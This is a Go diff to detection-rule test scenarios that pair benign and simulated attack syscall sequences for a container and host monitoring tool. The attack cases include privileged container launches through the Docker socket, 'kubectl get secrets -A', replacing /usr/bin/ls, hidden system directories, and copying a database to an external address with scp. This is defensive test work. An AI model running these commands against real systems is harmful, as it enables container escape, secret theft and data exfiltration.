@@ -167,11 +167,18 @@ func All() []Scenario {
 			},
 		},
 		{
-			Name: "binary_dir_write", Rule: "Binary Directory Written", Count: 1,
+			Name: "binary_dir_write", Rule: "Binary Directory Written", Count: 3,
 			Benign: func(b *Builder) {
 				dpkg := b.Spawn(TIDRootBash, "/usr/bin/dpkg", []string{"-i", "jq.deb"})
 				b.Open(dpkg, "/usr/bin/jq.dpkg-new", OWronly|OCreat|OTrunc|FCreated)
+				b.Call(dpkg, event.SyscallRenameX, map[string]any{"res": 0, "oldpath": "/usr/bin/jq.dpkg-new", "newpath": "/usr/bin/jq"})
+				post := b.Spawn(dpkg, "/bin/sh", []string{"/var/lib/dpkg/info/jq.postinst", "configure"})
+				b.Call(post, event.SyscallMkdiratX, map[string]any{"res": 0, "dirfd": atFDCWD, "path": "/usr/local/bin/jq.d", "mode": 0o755})
+				b.Exit(post)
 				b.Exit(dpkg)
+				mv := b.Spawn(TIDAliceBash, "/usr/bin/mv", []string{"a", "b"})
+				b.Call(mv, event.SyscallRenameat2X, map[string]any{"res": 0, "olddirfd": atFDCWD, "oldpath": "/home/alice/a", "newdirfd": atFDCWD, "newpath": "/home/alice/b", "flags": 0})
+				b.Exit(mv)
 				cat := b.Spawn(TIDAliceBash, "/usr/bin/cat", []string{"/usr/bin/ls"})
 				b.Open(cat, "/usr/bin/ls", ORdonly)
 				b.Exit(cat)
@@ -180,6 +187,10 @@ func All() []Scenario {
 				cp := b.Spawn(TIDRootBash, "/usr/bin/cp", []string{"/tmp/x", "/usr/bin/sshd-helper"})
 				b.Open(cp, "/usr/bin/sshd-helper", OWronly|OCreat|OTrunc|FCreated)
 				b.Exit(cp)
+				b.Call(TIDRootBash, event.SyscallMkdiratX, map[string]any{"res": 0, "dirfd": atFDCWD, "path": "/usr/bin/.cache", "mode": 0o755})
+				mv := b.Spawn(TIDRootBash, "/usr/bin/mv", []string{"/tmp/ls", "/usr/bin/ls"})
+				b.Call(mv, event.SyscallRenameat2X, map[string]any{"res": 0, "olddirfd": atFDCWD, "oldpath": "/tmp/ls", "newdirfd": atFDCWD, "newpath": "/usr/bin/ls", "flags": 0})
+				b.Exit(mv)
 			},
 		},
 		{
@@ -317,9 +328,9 @@ func All() []Scenario {
 				b.ConnectUnix(TIDAppInCtr, "/tmp/app.sock")
 			},
 			Attack: func(b *Builder) {
-				docker := b.Spawn(TIDAppInCtr, "/usr/local/bin/docker", []string{"-H", "unix:///var/run/docker.sock", "ps"})
-				b.ConnectUnix(docker, "/var/run/docker.sock")
-				b.Exit(docker)
+				py := b.Spawn(TIDAppInCtr, "/usr/local/bin/python3", []string{"-c", "import docker; docker.from_env().containers.run('alpine', privileged=True)"})
+				b.ConnectUnix(py, "/var/run/docker.sock")
+				b.Exit(py)
 			},
 		},
 		{
@@ -701,7 +712,7 @@ func All() []Scenario {
 			},
 		},
 		{
-			Name: "hidden_system_file", Rule: "Hidden File Created in System Directory", Count: 3,
+			Name: "hidden_system_file", Rule: "Hidden File Created in System Directory", Count: 2,
 			Benign: func(b *Builder) {
 				pw := b.Spawn(TIDAliceBash, "/usr/bin/passwd", nil, AsUser(0))
 				b.Open(pw, "/etc/.pwd.lock", OWronly|OCreat|FCreated)
@@ -715,7 +726,6 @@ func All() []Scenario {
 			Attack: func(b *Builder) {
 				b.Open(TIDRootBash, "/etc/.ssh-agent.sock", OWronly|OCreat|FCreated)
 				b.Call(TIDRootBash, event.SyscallMkdiratX, map[string]any{"res": 0, "dirfd": atFDCWD, "path": "/usr/lib/.x", "mode": 0o755})
-				b.Call(TIDRootBash, event.SyscallMkdiratX, map[string]any{"res": 0, "dirfd": atFDCWD, "path": "/usr/bin/.cache", "mode": 0o755})
 			},
 		},
 		{
@@ -790,7 +800,7 @@ func All() []Scenario {
 			},
 		},
 		{
-			Name: "setuid_root_attempt", Rule: "Non-root Process Tried to Become Root", Count: 1,
+			Name: "setuid_attempt", Rule: "Non-root Process Tried to Change User", Count: 2,
 			Benign: func(b *Builder) {
 				b.Call(TIDNginx, event.SyscallSetuidX, map[string]any{"res": 0, "uid": 33}) // dropping to itself
 				sudo := b.Spawn(TIDAliceBash, "/usr/bin/sudo", []string{"-i"}, AsUser(0))
@@ -801,6 +811,9 @@ func All() []Scenario {
 				x := b.Spawn(TIDNginx, "/var/www/html/uploads/getroot", nil)
 				b.Call(x, event.SyscallSetuidX, map[string]any{"res": -1, "uid": 0}) // EPERM
 				b.Exit(x)
+				y := b.Spawn(TIDNginx, "/var/www/html/uploads/su2", nil)
+				b.Call(y, event.SyscallSetuidX, map[string]any{"res": -1, "uid": 1000}) // EPERM: alice
+				b.Exit(y)
 			},
 		},
 		{
@@ -845,6 +858,19 @@ func All() []Scenario {
 				b.Exit(curl)
 				scp := b.Spawn(TIDAppInCtr, "/usr/bin/scp", []string{"/app/db.sqlite", "u@203.0.113.7:"})
 				b.Exit(scp)
+			},
+		},
+		{
+			Name: "container_client", Rule: "Container or Cluster Client Run in Container", Count: 2,
+			Benign: func(b *Builder) {
+				docker := b.Spawn(TIDRootBash, "/usr/bin/docker", []string{"ps"})
+				b.Exit(docker)
+			},
+			Attack: func(b *Builder) {
+				k := b.Spawn(TIDAppInCtr, "/usr/local/bin/kubectl", []string{"get", "secrets", "-A"})
+				b.Exit(k)
+				d := b.Spawn(TIDAppInCtr, "/usr/local/bin/docker", []string{"-H", "unix:///var/run/docker.sock", "run", "--privileged", "alpine"})
+				b.Exit(d)
 			},
 		},
 		{
